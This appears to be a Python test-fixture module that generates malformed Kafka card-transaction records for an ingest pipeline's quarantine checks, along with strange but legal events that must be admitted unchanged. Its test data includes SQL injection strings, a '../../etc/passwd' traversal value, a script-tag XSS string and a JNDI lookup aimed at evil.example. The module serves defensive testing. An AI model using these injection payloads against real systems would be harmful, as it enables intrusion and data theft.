"""The bad-record corpus: named ways a producer gets a card event wrong, each with the quarantine reason
the ingest lane must give it — the FIRST failing check in ``QUARANTINE_REASONS`` order.

Each defect turns a valid event into the raw Kafka (key, value) bytes a broken producer would send.
``hostile_valid_events`` is the opposite list: strange but legal events that must be admitted verbatim.
"""

from __future__ import annotations

import json
from collections.abc import Callable
from dataclasses import dataclass, field
from datetime import timedelta

from common.events import (
    MAX_AMOUNT_MINOR,
    MAX_PAYLOAD_BYTES,
    MAX_TEXT_LENGTH,
    QUARANTINE_REASONS,
    REQUIRED_FIELDS,
    CardTransaction,
)

RawRecord = tuple[bytes | None, bytes | None]          # Kafka key and value, as sent
Builder = Callable[[CardTransaction, bytes], RawRecord]  # (valid event, another account's key) -> record
WIRE_TIME = "%Y-%m-%dT%H:%M:%S.%fZ"


@dataclass(frozen=True)
class Defect:
    name: str
    kind: str              # family: json, size, schema, type, identity, text, value, time, key, combined
    expected_reason: str   # first failing check, one of QUARANTINE_REASONS
    build: Builder = field(repr=False, compare=False)
    # What reveals the defect: the value alone, the record key, or the broker's record timestamp.
    judged_by: str = "value"

    def apply(self, event: CardTransaction, foreign_key: bytes) -> RawRecord:
        return self.build(event, foreign_key)


# --- builders ----------------------------------------------------------------------------------------


def payload_of(event: CardTransaction) -> dict:
    return json.loads(event.to_json())


def dumps(payload: object, *, ascii_only: bool = True) -> str:
    # The same compact, sorted form as CardTransaction.to_json, so a defect differs only where intended.
    return json.dumps(payload, separators=(",", ":"), sort_keys=True, ensure_ascii=ascii_only)


def _key(event: CardTransaction) -> bytes:
    return event.account_id.encode()


def _edited(**changes: object) -> Builder:
    return lambda event, _: (_key(event), dumps({**payload_of(event), **changes}).encode())


def _derived(name: str, make: Callable[[CardTransaction], object]) -> Builder:
    """One field replaced by a value computed from the event (its time, its own id...)."""
    return lambda event, _: (_key(event), dumps({**payload_of(event), name: make(event)}).encode())


def _dropped(*names: str) -> Builder:
    def build(event: CardTransaction, _: bytes) -> RawRecord:
        return _key(event), dumps({k: v for k, v in payload_of(event).items() if k not in names}).encode()

    return build


def _text(transform: Callable[[str], str | bytes]) -> Builder:
    """A transformation of the valid wire text: truncation, garbage, re-encoding."""

    def build(event: CardTransaction, _: bytes) -> RawRecord:
        out = transform(event.to_json())
        return _key(event), out if isinstance(out, bytes) else out.encode()

    return build


def _constant(value: bytes | None) -> Builder:
    return lambda event, _: (_key(event), value)


def _rekeyed(make_key: Callable[[CardTransaction, bytes], bytes | None]) -> Builder:
    return lambda event, foreign: (make_key(event, foreign), event.to_json().encode())


def _combined(first: Builder, **changes: object) -> Builder:
    """Apply ``first``, then overwrite fields: used to prove which of two failures is reported."""

    def build(event: CardTransaction, foreign: bytes) -> RawRecord:
        key, value = first(event, foreign)
        return key, dumps({**json.loads(value), **changes}).encode()

    return build


def sized_payload(event: CardTransaction, size: int) -> dict:
    """The event's payload with ``device_id`` padded so the compact JSON is exactly ``size`` bytes."""
    payload = {**payload_of(event), "device_id": ""}
    return {**payload, "device_id": "d" * (size - len(dumps(payload)))}


def _wire_time(event: CardTransaction, shift: timedelta = timedelta(0)) -> str:
    return (event.event_time + shift).strftime(WIRE_TIME)


# --- the corpus, by family ---------------------------------------------------------------------------


def _json_defects() -> list[Defect]:
    cases = {
        "truncated_json": _text(lambda t: t[: len(t) // 2]),
        "missing_closing_brace": _text(lambda t: t[:-1]),
        "trailing_garbage": _text(lambda t: t + "garbage"),
        "two_json_documents": _text(lambda t: t + t),
        "single_quotes": _text(lambda t: t.replace('"', "'")),
        "unquoted_keys": _text(lambda t: t.replace('{"', "{").replace(',"', ",").replace('":', ":")),
        "json_with_comment": _text(lambda t: "/* sent by pos-7 */" + t),
        "nan_amount": _edited(amount_minor=float("nan")),
        "infinity_amount": _edited(amount_minor=float("inf")),
        "raw_control_byte_in_string": _text(lambda t: t.replace('"merchant_name":"', '"merchant_name":"\x01', 1)),
        "empty_value": _constant(b""),
        "whitespace_value": _constant(b"   \n"),
        "tombstone_null_value": _constant(None),
        "json_literal_null": _constant(b"null"),
        "json_number": _constant(b"42"),
        "json_array_of_event": _text(lambda t: f"[{t}]"),
        "json_string_of_event": _text(lambda t: json.dumps(t)),
        "non_utf8_latin1_bytes": _non_utf8,
        "utf16_encoded": _text(lambda t: t.encode("utf-16")),
    }
    return [Defect(name, "json", "invalid_json", build) for name, build in cases.items()]


def _non_utf8(event: CardTransaction, _: bytes) -> RawRecord:
    text = dumps({**payload_of(event), "merchant_name": "Café Müller"}, ascii_only=False)
    return _key(event), text.encode("latin-1")


def _size_defects() -> list[Defect]:
    long_name = _edited(merchant_name="A" * 10_000)
    cases = {
        "oversized_merchant_name_10kb": long_name,
        "oversized_and_truncated_json": _text(lambda t: t[:-1] + ',"padding":"' + "x" * 6000),
        "oversized_unknown_padding_field": _edited(padding="x" * 5000),
        "oversized_by_one_byte": lambda e, _: (_key(e), dumps(sized_payload(e, MAX_PAYLOAD_BYTES + 1)).encode()),
    }
    return [Defect(name, "size", "oversized_payload", build) for name, build in cases.items()]


def _unknown_field_defects() -> list[Defect]:
    cases = {
        "unknown_field": _edited(promo_code="BLACKFRIDAY"),
        "unknown_field_null": _edited(fraud_score=None),
        "unknown_field_camel_case_twin": _derived("amountMinor", lambda e: e.amount_minor),
        "unknown_field_nested_object": _edited(meta={"source": "pos", "retries": 2}),
        "unknown_field_empty_name": _edited(**{"": "x"}),
    }
    return [Defect(name, "schema", "unknown_field", build) for name, build in cases.items()]


def _missing_field_defects() -> list[Defect]:
    defects = [Defect(f"missing_{name}", "schema", "missing_field", _dropped(name)) for name in REQUIRED_FIELDS]
    cases = {
        "missing_amount_and_currency": _dropped("amount_minor", "currency"),
        "null_amount_minor": _edited(amount_minor=None),
        "null_event_id": _edited(event_id=None),
        "null_card_present": _edited(card_present=None),
        "empty_object": _text(lambda _: "{}"),
    }
    return defects + [Defect(name, "schema", "missing_field", build) for name, build in cases.items()]


def _wrong_type_defects() -> list[Defect]:
    cases = {
        "amount_as_string": _derived("amount_minor", lambda e: str(e.amount_minor)),
        "amount_as_float": _edited(amount_minor=12.5),
        "amount_as_integral_float": _derived("amount_minor", lambda e: float(e.amount_minor)),
        "amount_as_bool": _edited(amount_minor=True),
        "amount_as_array": _derived("amount_minor", lambda e: [e.amount_minor]),
        "schema_version_as_string": _edited(schema_version="1"),
        "card_present_as_yes": _edited(card_present="yes"),
        "card_present_as_int": _edited(card_present=1),
        "event_time_as_epoch_millis": _derived("event_time", lambda e: int(e.event_time.timestamp() * 1000)),
        "account_id_as_number": _edited(account_id=12345678),
        "mcc_as_number": _derived("mcc", lambda e: int(e.mcc)),
        "merchant_name_as_object": _derived("merchant_name", lambda e: {"en": e.merchant_name}),
        "device_id_as_number": _edited(device_id=42),
        "currency_as_array": _derived("currency", lambda e: [e.currency]),
    }
    return [Defect(name, "type", "wrong_type", build) for name, build in cases.items()]


def _schema_version_defects() -> list[Defect]:
    cases = {"schema_version_2": _edited(schema_version=2), "schema_version_0": _edited(schema_version=0)}
    return [Defect(name, "schema", "unsupported_schema_version", build) for name, build in cases.items()]


PLACEHOLDER_VALUES = {
    "empty": "", "unknown": "unknown", "n_a": "N/A", "null_string": "null", "zeros": "0000000000",
    "uuid_zeros": "00000000-0000-0000-0000-000000000000", "test": "test", "placeholder": "placeholder",
}
IDENTITY_FIELDS = ("event_id", "account_id", "card_id", "merchant_id")


def _placeholder_defects() -> list[Defect]:
    defects = [
        Defect(f"placeholder_{name}_{tag}", "identity", "placeholder_identity", _edited(**{name: value}))
        for name in IDENTITY_FIELDS
        for tag, value in PLACEHOLDER_VALUES.items()
    ]
    spellings = {
        "placeholder_account_id_un_known": _edited(account_id="UN_KNOWN"),
        "placeholder_card_id_whitespace": _edited(card_id="   "),
        "placeholder_merchant_id_test_prefix": _edited(merchant_id="TEST-1234"),
        "placeholder_event_id_dummy_prefix": _edited(event_id="dummy-evt-1"),
    }
    return defects + [Defect(n, "identity", "placeholder_identity", b) for n, b in spellings.items()]


def _malformed_identity_defects() -> list[Defect]:
    cases = {
        "event_id_with_space": _edited(event_id="evt 123 456"),
        "event_id_too_short": _edited(event_id="e1"),
        "event_id_sql_comment": _derived("event_id", lambda e: e.event_id + ";--"),
        "account_id_with_double_quote": _edited(account_id='acc"1234'),
        "account_id_sql_drop_table": _edited(account_id="x'; DROP TABLE accounts;--"),
        "account_id_leading_dash": _derived("account_id", lambda e: "-" + e.account_id),
        "account_id_trailing_newline": _derived("account_id", lambda e: e.account_id + "\n"),
        "card_id_sql_or_true": _edited(card_id="1 OR 1=1"),
        "card_id_cyrillic_homoglyph": _edited(card_id="\u0441rd-1234"),
        "card_id_65_chars": _edited(card_id="crd-" + "9" * 61),
        "merchant_id_sql_union": _edited(merchant_id="m1' UNION SELECT * FROM cards--"),
        "merchant_id_200_chars": _edited(merchant_id="mer-" + "7" * 196),
        "merchant_id_path_traversal": _edited(merchant_id="../../etc/passwd"),
    }
    return [Defect(name, "identity", "invalid_identity", build) for name, build in cases.items()]


def _text_defects() -> list[Defect]:
    control = {
        "merchant_name_nul": "Corner\u0000Shop", "merchant_name_bell": "Corner\u0007Shop",
        "merchant_name_escape": "\u001b[31mCorner Shop",
    }
    defects = [Defect(n, "text", "control_characters", _edited(merchant_name=v)) for n, v in control.items()]
    invalid = {
        "merchant_name_empty": _edited(merchant_name=""),
        "merchant_name_too_long": _edited(merchant_name="M" * (MAX_TEXT_LENGTH + 1)),
        "ip_address_too_long": _edited(ip_address="f" * 46),
    }
    return defects + [Defect(n, "text", "invalid_text", b) for n, b in invalid.items()]


def _value_defects() -> list[Defect]:
    cases = {
        "invalid_amount": {"amount_negative": -1250, "amount_zero": 0, "amount_absurd": 10**13,
                           "amount_max_plus_one": MAX_AMOUNT_MINOR + 1},
        "unknown_currency": {"currency_xxx": "XXX", "currency_lower_case_usd": "usd", "currency_btc": "BTC",
                             "currency_empty": ""},
        "unknown_country": {"country_xx": "XX", "country_lower_case": "de", "country_alpha3": "DEU",
                            "country_uk_not_gb": "UK"},
        "invalid_mcc": {"mcc_five_digits": "54111", "mcc_letters": "abcd", "mcc_three_digits": "541",
                        "mcc_empty": ""},
        "invalid_channel": {"channel_pos": "pos", "channel_upper_case": "ECOMMERCE", "channel_empty": ""},
    }
    field_of = {"invalid_amount": "amount_minor", "unknown_currency": "currency", "unknown_country": "country",
                "invalid_mcc": "mcc", "invalid_channel": "channel"}
    return [
        Defect(name, "value", reason, _edited(**{field_of[reason]: value}))
        for reason, values in cases.items()
        for name, value in values.items()
    ]


def _time_defects() -> list[Defect]:
    # Broker time is about "now" and valid events are at most MAX_EVENT_AGE old, so shifts of more than
    # MAX_EVENT_AGE + MAX_EVENT_LEAD from the event's own time are out of range whatever "now" is.
    broker = {
        "event_time_year_2999": _edited(event_time="2999-01-01T00:00:00.000000Z"),
        "event_time_year_9999": _edited(event_time="9999-12-31T23:59:59.999999Z"),
        "event_time_year_1970": _edited(event_time="1970-01-01T00:00:00.000000Z"),
        "event_time_401_days_old": _derived("event_time", lambda e: _wire_time(e, -timedelta(days=401))),
        "event_time_402_days_ahead": _derived("event_time", lambda e: _wire_time(e, timedelta(days=402))),
    }
    value = {
        "event_time_unparseable": _edited(event_time="yesterday at noon"),
        "event_time_without_offset": _derived("event_time", lambda e: _wire_time(e)[:-1]),
        "event_time_date_only": _derived("event_time", lambda e: _wire_time(e)[:10]),
        "event_time_empty": _edited(event_time=""),
        "event_time_impossible_date": _edited(event_time="2026-02-30T10:00:00.000000Z"),
        "event_time_epoch_string": _edited(event_time="1700000000000"),
    }
    return [Defect(n, "time", "invalid_event_time", b, judged_by="broker_time") for n, b in broker.items()] + [
        Defect(n, "time", "invalid_event_time", b) for n, b in value.items()
    ]


def _key_defects() -> list[Defect]:
    cases = {
        "key_mismatch_other_account": _rekeyed(lambda _, foreign: foreign),
        "key_missing": _rekeyed(lambda *_: None),
        "key_upper_case": _rekeyed(lambda e, _: e.account_id.upper().encode()),
        "key_trailing_space": _rekeyed(lambda e, _: (e.account_id + " ").encode()),
        "key_is_event_id": _rekeyed(lambda e, _: e.event_id.encode()),
    }
    return [Defect(name, "key", "key_mismatch", build, judged_by="key") for name, build in cases.items()]


def _combined_defects() -> list[Defect]:
    """Two failures in one record: the reason must be the earlier check in QUARANTINE_REASONS."""
    cases = {
        "unknown_field_and_missing_amount": ("unknown_field", _combined(_dropped("amount_minor"), promo="x")),
        "missing_currency_and_amount_as_string": ("missing_field", _combined(_dropped("currency"), amount_minor="9")),
        "version_as_string_2": ("wrong_type", _edited(schema_version="2")),
        "version_2_and_placeholder_account": ("unsupported_schema_version",
                                              _edited(schema_version=2, account_id="unknown")),
        "placeholder_event_and_sql_account": ("placeholder_identity",
                                              _edited(event_id="unknown", account_id="1 OR 1=1")),
        "sql_card_and_negative_amount": ("invalid_identity", _edited(card_id="1 OR 1=1", amount_minor=-5)),
        "bell_in_name_and_zero_amount": ("control_characters", _edited(merchant_name="a\u0007b", amount_minor=0)),
        "zero_amount_and_bad_currency": ("invalid_amount", _edited(amount_minor=0, currency="XXX")),
        "bad_currency_country_mcc_channel": ("unknown_currency",
                                             _edited(currency="BTC", country="XX", mcc="x", channel="pos")),
        "bad_time_and_empty_name": ("invalid_event_time", _edited(event_time="soon", merchant_name="")),
        "long_name_and_foreign_key": ("invalid_text",
                                      _combined(_rekeyed(lambda _, f: f), merchant_name="M" * 200)),
        "oversized_and_not_json": ("oversized_payload", _text(lambda t: "{{{" + t * 20)),
    }
    return [Defect(name, "combined", reason, build) for name, (reason, build) in cases.items()]


def _build_corpus() -> tuple[Defect, ...]:
    families = (
        _json_defects, _size_defects, _unknown_field_defects, _missing_field_defects, _wrong_type_defects,
        _schema_version_defects, _placeholder_defects, _malformed_identity_defects, _text_defects,
        _value_defects, _time_defects, _key_defects, _combined_defects,
    )
    corpus = tuple(defect for family in families for defect in family())
    _assert_well_formed(corpus)
    return corpus


def _assert_well_formed(corpus: tuple[Defect, ...]) -> None:
    # A programming error in this module, not bad input: fail at import, loudly.
    names = [d.name for d in corpus]
    duplicated = sorted({n for n in names if names.count(n) > 1})
    unknown = sorted({d.expected_reason for d in corpus} - set(QUARANTINE_REASONS))
    if duplicated or unknown:
        raise AssertionError(f"defect corpus: duplicated names {duplicated}, unknown reasons {unknown}")


DEFECTS: tuple[Defect, ...] = _build_corpus()
DEFECTS_BY_NAME: dict[str, Defect] = {d.name: d for d in DEFECTS}


# --- strange but legal -------------------------------------------------------------------------------

HOSTILE_MERCHANT_NAMES = (
    "Robert'); DROP TABLE students;--",
    "1' OR '1'='1",
    '<script>alert("pwned")</script>',
    "Café Zürich — 東京 🍣",
    "O'Brien \"Best\" \\ Pub",
    "${jndi:ldap://evil.example/a} %s %(name)s {0}",
    "M" * MAX_TEXT_LENGTH,
)


def hostile_valid_events(base: CardTransaction) -> list[CardTransaction]:
    """Valid events that look dangerous or sit on a boundary; ingest must admit each one verbatim.

    Ids are ``<base id>-hv<n>`` so they never collide with the base or with each other.
    """
    changes: list[dict] = [{"merchant_name": name} for name in HOSTILE_MERCHANT_NAMES]
    changes += [
        {"amount_minor": 1},
        {"amount_minor": MAX_AMOUNT_MINOR},
        {"ip_address": "ffff:ffff:ffff:ffff:ffff:ffff:255.255.255.255"},   # 45 characters: the limit
        {"device_id": None, "ip_address": None},
    ]
    events = [_validated(base, f"{base.event_id}-hv{n:02d}", change) for n, change in enumerate(changes)]
    long_id = f"{base.event_id}-hv{len(events):02d}-".ljust(64, "x")
    events.append(_validated(base, long_id, {}))
    exact = base.model_copy(update={"event_id": f"{base.event_id}-hv{len(events):02d}"})
    events.append(CardTransaction.model_validate_json(dumps(sized_payload(exact, MAX_PAYLOAD_BYTES))))
    return events


def _validated(base: CardTransaction, event_id: str, change: dict) -> CardTransaction:
    return CardTransaction.model_validate({**base.model_dump(), **change, "event_id": event_id})
